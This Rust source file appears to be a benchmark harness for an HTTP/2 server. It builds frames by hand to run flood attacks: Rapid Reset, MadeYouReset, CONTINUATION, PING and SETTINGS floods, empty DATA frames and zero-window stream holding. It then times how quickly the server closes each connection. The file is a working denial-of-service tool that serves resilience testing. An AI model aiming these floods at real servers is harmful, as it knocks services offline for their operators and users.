//! Attackers that speak HTTP/2, with frames made by hand (RFC 9113, RFC 7541): each floods a connection until it is closed, and
//! how long that took is what SECURITY bounds. Answers are read and thrown away.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use super::Attack;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// An attacker that is not closed by then is given up, and counts as never.
const GIVEN_UP: Duration = Duration::from_secs(5);
/// Frames of one burst.
const BURST: u32 = 100;
/// Streams of an attacker that never opens its window.
const HELD_STREAMS: u32 = 100;
/// Attackers of that kind at once.
const HELD_MAX: usize = 50;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // No payload here is longer than 64 KiB.
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// GET and http of the static table, / too; the authority is a literal.
fn get(stream: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags, stream, b"\x82\x86\x84\x01\x0dbench.example")
}

/// What an attacker says first, with its preface.
fn first(attack: Attack) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS_INITIAL_WINDOW_SIZE.
    let settings: &[u8] = if attack == Attack::ZeroWindow { &[0, 4, 0, 0, 0, 0] } else { &[] };
    out.extend(frame(SETTINGS, 0, 0, settings));
    match attack {
        Attack::Continuations => out.extend(get(1, 0)),
        Attack::EmptyData => out.extend(frame(HEADERS, END_HEADERS, 1, b"\x83\x86\x84\x01\x0dbench.example")),
        Attack::ZeroWindow => {
            (0..HELD_STREAMS).for_each(|n| out.extend(get(2 * n + 1, END_HEADERS | END_STREAM)));
        }
        Attack::SlowHeads
        | Attack::Smuggling
        | Attack::Reconnects
        | Attack::RapidReset
        | Attack::MadeYouReset
        | Attack::Pings
        | Attack::Settings => {}
    }
    out
}

/// What it says over and over.
fn burst(attack: Attack, round: u32) -> Vec<u8> {
    let streams = (0..BURST).map(|n| 2 * (round * BURST + n) + 1);
    let with = |second: fn(u32) -> Vec<u8>| {
        streams.flat_map(|stream| [get(stream, END_HEADERS | END_STREAM), second(stream)].concat()).collect()
    };
    match attack {
        Attack::RapidReset => with(|stream| frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())),
        // A window that is too large is a mistake that the server has to reset the stream for.
        Attack::MadeYouReset => {
            with(|stream| frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()))
        }
        Attack::Continuations => {
            let field: &[u8] = &[&[0, 1, b'a', 100][..], &[b'b'; 100]].concat();
            frame(CONTINUATION, 0, 1, field).repeat(BURST as usize)
        }
        Attack::EmptyData => frame(DATA, 0, 1, &[]).repeat(BURST as usize),
        Attack::Pings => frame(PING, 0, 0, b"12345678").repeat(BURST as usize),
        Attack::Settings => frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]).repeat(BURST as usize),
        Attack::SlowHeads | Attack::Smuggling | Attack::Reconnects | Attack::ZeroWindow => Vec::new(),
    }
}

/// Is it gone? What came is thrown away.
fn is_closed(connection: &mut TcpStream) -> bool {
    let mut buffer = [0; 64 * 1024];
    loop {
        match connection.read(&mut buffer) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(why) => return why.kind() != ErrorKind::WouldBlock,
        }
    }
}

/// Floods one connection until it is closed: how long that took. `None` = it was not, or the attack is over.
fn flood(attack: Attack, at: SocketAddr, over: &AtomicBool) -> Option<Duration> {
    let mut connection = TcpStream::connect(at).ok()?;
    connection.write_all(&first(attack)).ok()?;
    connection.set_nonblocking(true).ok()?;
    let began = Instant::now();
    for round in 0.. {
        let bytes = burst(attack, round);
        let mut rest = &bytes[..];
        while !rest.is_empty() {
            if over.load(Ordering::Relaxed) {
                return None;
            }
            if began.elapsed() > GIVEN_UP {
                return Some(Duration::MAX);
            }
            match connection.write(rest) {
                Ok(n) => rest = &rest[n..],
                Err(why) if why.kind() == ErrorKind::WouldBlock => {
                    if is_closed(&mut connection) {
                        return Some(began.elapsed());
                    }
                    std::thread::park_timeout(Duration::from_micros(100));
                }
                Err(_) => return Some(began.elapsed()),
            }
        }
        if is_closed(&mut connection) {
            return Some(began.elapsed());
        }
    }
    None
}

/// Attackers one after another, so many a second, until it is over: how long each took to be closed.
pub(super) fn rage(attack: Attack, per_second: u32, at: SocketAddr, over: &AtomicBool) -> Vec<Duration> {
    let (mut times, mut held) = (Vec::new(), Vec::new());
    let mut next = Instant::now();
    while !over.load(Ordering::Relaxed) {
        if let Attack::ZeroWindow = attack {
            // Nobody closes it soon: it is as slow as a client may be, and holds what it holds.
            if held.len() < HELD_MAX
                && let Ok(mut connection) = TcpStream::connect(at)
                && connection.write_all(&first(attack)).is_ok()
            {
                held.push(connection);
            }
        } else {
            times.extend(flood(attack, at, over));
        }
        next += Duration::from_secs(1) / per_second;
        std::thread::park_timeout(next.saturating_duration_since(Instant::now()));
    }
    times
}
